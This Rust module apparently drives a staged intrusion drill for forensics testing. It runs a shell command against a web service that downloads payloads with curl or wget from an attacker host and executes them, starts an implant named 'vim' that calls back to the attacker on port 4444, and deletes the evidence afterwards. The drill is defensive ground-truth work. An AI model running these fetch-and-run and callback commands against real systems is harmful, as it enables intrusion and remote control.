//! The drill: one intrusion through a web service, after a real case, played to its end in a private world.
//!
//! A shell under the service; curl or wget, whichever exists, fetches `x` and runs it; a binary that calls itself
//! `vim` calls back every 500 ms to the address the attack came from; a file in a hidden directory; one step that
//! lives for less than a millisecond; then everything is killed and deleted.

mod attacker;
mod victim;

use std::collections::BTreeMap;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anyhow::{Context, Result};
use serde::Serialize;

pub use self::attacker::{Attacker, Callback};
pub use self::victim::Victim;
use crate::digest::sha256;
use crate::net::ATTACKER;
use crate::proc::{self, Seen};
use crate::wait;

/// How often `vim` calls back.
pub const CALLBACKS: usize = 6;
/// How often the short step is taken: a busy machine may interrupt one of them for longer than it lives.
pub const FLASHES: usize = 8;
/// What the short step passes to `exit`.
pub const FLASH_CODE: u8 = 42;
const PATIENCE: Duration = Duration::from_secs(20);

/// Where the story has come to; whoever watches may act.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Moment {
    /// The service runs; nothing has happened yet.
    Ready,
    /// `x` and `vim` run, the call-backs have come in.
    Working,
    /// Nothing of it lives, nothing of it is on disk.
    Gone,
}

/// What really happened: the bundle is compared with it.
#[derive(Clone, Debug, Serialize)]
pub struct Record {
    /// The web service.
    pub service: Seen,
    /// The shell of the first request, which is gone.
    pub shell: u32,
    /// The payload.
    pub x: Seen,
    /// The implant.
    pub vim: Seen,
    /// The steps of less than a millisecond each, where the machine lets them.
    pub flashes: Vec<u32>,
    /// SHA-256 of `x`, `vim` and `flash`, before they were deleted.
    pub sha256: BTreeMap<String, String>,
    /// As the attacker saw them.
    pub callbacks: Vec<Callback>,
    /// When the first request was sent, in nanoseconds since 1970.
    pub began: u128,
    /// When its answer had come: the shell was gone, what it started went on.
    pub answered: u128,
    /// When the last request was sent.
    pub cleaned: u128,
    /// When nothing of it lived any more.
    pub ended: u128,
}

/// Plays it all; `watch` is told of every moment and may hold the story up.
pub fn play(watch: impl FnMut(Moment) -> Result<()>) -> Result<Record> {
    play_with(&std::env::var("PATH")?, watch)
}

/// The same, on a host whose service finds its tools in `path`.
pub fn play_with(path: &str, mut watch: impl FnMut(Moment) -> Result<()>) -> Result<Record> {
    let mut attacker = Attacker::arrive()?;
    let mut victim = Victim::serve(path)?;
    let service = Seen::once_it_is(victim.pid(), victim::PROGRAM)?;
    watch(Moment::Ready)?;

    let began = now()?;
    let answer = attacker.send(&break_in()).context("the first request")?;
    let answered = now()?;
    let said = |name: &str| -> Result<u32> {
        let value = answer.lines().find_map(|line| line.strip_prefix(name)?.strip_prefix('='));
        let value = value.with_context(|| format!("the shell did not say {name}: {answer}"))?;
        Ok(value.trim().parse()?)
    };
    let (x, vim) = (said("x")?, said("vim")?);
    let (x, vim) = (Seen::once_it_is(x, "/x")?, Seen::once_it_is(vim, "/vim")?);
    attacker.await_callbacks(CALLBACKS, PATIENCE)?;
    watch(Moment::Working)?;

    let cleaned = now()?;
    attacker.send(&clean_up(x.pid, vim.pid)).context("the last request")?;
    for seen in [&x, &vim] {
        let what = format!("the end of {}", seen.comm);
        wait::until(&what, PATIENCE, || Ok(proc::is_gone(seen.pid).then_some(())))?;
    }
    victim.end()?;
    let record = Record {
        service,
        shell: said("shell")?,
        x,
        vim,
        flashes: answer.lines().filter_map(|line| line.strip_prefix("flash=")?.parse().ok()).collect(),
        sha256: attacker::PAYLOADS
            .iter()
            .map(|name| Ok(((*name).to_owned(), sha256(attacker.payload(name))?)))
            .collect::<Result<_>>()?,
        callbacks: attacker.leave()?,
        began,
        answered,
        cleaned,
        ended: now()?,
    };
    watch(Moment::Gone)?;
    Ok(record)
}

/// The first request's command.
fn break_in() -> String {
    let from = format!("http://{ATTACKER}:8000");
    let fetch = "fetch() { if command -v curl >/dev/null; then curl -sf -o $2 $1; else wget -q -O $2 $1; fi; chmod +x $2; }";
    [
        "cd ~/dashboard || exit 1; echo shell=$$",
        fetch,
        &format!("fetch {from}/x x; ./x >/dev/null 2>&1 & echo x=$!"),
        &format!(
            "for i in $(seq {FLASHES}); do fetch {from}/flash .t; ./.t & wait $! || echo flash=$!; done"
        ),
        &format!("fetch {from}/vim vim; ./vim {ATTACKER}:4444 {CALLBACKS} >/dev/null 2>&1 & echo vim=$!"),
    ]
    .join("\n")
}

fn clean_up(x: u32, vim: u32) -> String {
    format!("kill -9 {x} {vim}; cd ~/dashboard; rm -f x vim; rm -rf ~/.cache/.sys; ls -a")
}

fn now() -> Result<u128> {
    Ok(SystemTime::now().duration_since(UNIX_EPOCH)?.as_nanos())
}
